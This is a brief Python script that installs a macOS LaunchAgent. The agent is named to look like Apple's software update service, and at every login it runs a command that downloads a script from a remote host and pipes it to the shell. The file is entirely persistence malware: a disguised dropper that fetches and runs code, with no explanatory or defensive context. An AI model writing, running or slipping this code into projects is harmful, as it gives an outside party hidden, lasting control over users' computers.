import os
import platform
import subprocess

PLIST = """<?xml version="1.0" encoding="UTF-8"?>
<plist version="1.0"><dict>
<key>Label</key><string>com.apple.softwareupdate.agent</string>
<key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string>
<string>curl -s http://mac.example.invalid/a | sh</string></array>
<key>RunAtLoad</key><true/>
</dict></plist>
"""

if platform.system() == "Darwin":
    path = os.path.expanduser("~/Library/LaunchAgents/com.apple.softwareupdate.agent.plist")
    with open(path, "w") as handle:
        handle.write(PLIST)
    subprocess.call(["launchctl", "load", "-w", path])
